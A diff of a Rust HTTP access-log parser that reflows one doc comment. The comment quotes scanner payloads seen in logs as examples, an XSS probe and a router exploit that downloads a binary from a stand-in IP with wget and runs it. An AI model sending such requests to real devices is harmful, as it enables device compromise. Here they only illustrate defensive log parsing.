@@ -31,8 +31,8 @@ pub const UNPARSED_MAX_BYTES: usize = 128;
 /// version (`HTTP/1.2`, a bare `HTTP`) keeps them as logged; rules decide what is odd. A target
 /// with raw spaces (Apache and NGINX log the line as received; scanners send unencoded payloads
 /// such as `/x"><img src=N onerror=alert(1)>`) is everything between the method and the
-/// protocol, so the rules still see the payload. Without a protocol, a target with raw spaces is what
-/// follows the method (the router exploits `/shell?cd+/tmp;wget+ 203.0.113.9/arm;sh+arm`,
+/// protocol, so the rules still see the payload. Without a protocol, a target with raw spaces is
+/// what follows the method (the router exploits `/shell?cd+/tmp;wget+ 203.0.113.9/arm;sh+arm`,
 /// answered 400); a bare `GET /` stays no request (a line cut short).
 ///
 /// ```
